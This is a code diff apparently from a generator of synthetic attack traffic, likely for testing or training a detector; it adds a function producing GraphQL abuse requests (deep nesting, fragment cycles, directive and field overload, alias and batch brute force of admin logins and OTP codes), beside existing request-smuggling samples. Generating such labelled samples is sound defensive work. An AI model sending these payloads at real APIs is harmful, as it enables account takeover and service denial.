@@ -278,3 +278,51 @@ def protocol_requests(rng):
     out.append(("get_with_body_smuggle", _raw(["GET /api/v1/products HTTP/1.1", "Host: " + host, "Content-Length: %d" % len(smug + "\r\n\r\n")], (smug + "\r\n\r\n").encode())))
     rng.shuffle(out)
     return out
+
+
+GQL_FIELDS = ["friends", "followers", "posts", "comments", "author", "replies", "orders", "items", "product", "reviews"]
+
+
+def graphql_request(rng):
+    """GraphQL resource abuse (OWASP API4): depth, alias/batch brute force, duplication, fragment cycles."""
+    host = rng.choice(["graphql.shop.example", "api.shop.example", "api.blog.example"])
+    ua = rng.choice(UA_ATTACK)
+    headers = base_headers(rng, host, ua=ua, accept="application/json", browser=ua.startswith("Mozilla/5.0 ("))
+    if rng.random() < 0.5:
+        headers.append(auth_header(rng))
+    kind = _weighted(rng, [("deep_nesting", 25), ("alias_bruteforce", 20), ("batch_array", 15), ("field_duplication", 10),
+                           ("directive_overload", 8), ("fragment_cycle", 8), ("alias_overload", 10)])
+    variables = None
+    if kind == "deep_nesting":
+        depth = rng.randrange(12, 40)
+        path = [rng.choice(GQL_FIELDS[:6]) for _ in range(depth)]
+        q = "query { user(id: %d) { " % rng.randrange(1, 999) + "".join("%s { " % f for f in path) + "id name" + " }" * (depth + 1) + " }"
+    elif kind == "alias_bruteforce":
+        n = rng.randrange(30, 100)
+        if rng.random() < 0.5:
+            q = "mutation { " + " ".join('a%d: login(email: "admin@shop.example", password: "%s") { token }' % (i, rng.choice(["123456", "password", "Summer2024!", "qwerty"]) + str(i))
+                                          for i in range(n)) + " }"
+        else:
+            q = "mutation { " + " ".join('c%d: verifyOtp(code: "%06d") { ok }' % (i, rng.randrange(10**6)) for i in range(n)) + " }"
+    elif kind == "batch_array":
+        n = rng.randrange(30, 80)
+        ops = [{"operationName": "Login", "query": "mutation Login($e: String!, $p: String!) { login(email: $e, password: $p) { token } }",
+                "variables": {"e": "admin@shop.example", "p": "guess%04d" % i}} for i in range(n)]
+        return {"method": "POST", "uri": "/graphql", "headers": headers + [["Content-Type", "application/json"]], "body": json.dumps(ops, separators=(",", ":")),
+                "placement": "json", "evasion": "batching"}
+    elif kind == "field_duplication":
+        q = "query { me { " + " ".join(["email"] * rng.randrange(200, 600)) + " } }"
+    elif kind == "directive_overload":
+        q = "query { me " + "@include(if: true) " * rng.randrange(150, 400) + "{ id } }"
+    elif kind == "fragment_cycle":
+        q = "query { me { ...A } } fragment A on User { friends { ...B } } fragment B on User { followers { ...A } }"
+    else:
+        q = "query { " + " ".join("q%d: search(query: \"%s\") { totalCount }" % (i, rng.choice(["a", "e", "*"])) for i in range(rng.randrange(60, 200))) + " }"
+    r = rng.random()
+    if r < 0.65:
+        body = json.dumps({"query": q, "variables": variables or {}}, separators=(",", ":"))
+        return {"method": "POST", "uri": rng.choice(["/graphql", "/api/graphql"]), "headers": headers + [["Content-Type", "application/json"]], "body": body,
+                "placement": "json", "evasion": "none"}
+    if r < 0.85 and len(q) < 6000:
+        return {"method": "GET", "uri": "/graphql?query=" + pct(q, plus_space=True), "headers": headers, "body": "", "placement": "query", "evasion": "none"}
+    return {"method": "POST", "uri": "/graphql", "headers": headers + [["Content-Type", "application/graphql"]], "body": q, "placement": "graphql_doc", "evasion": "none"}
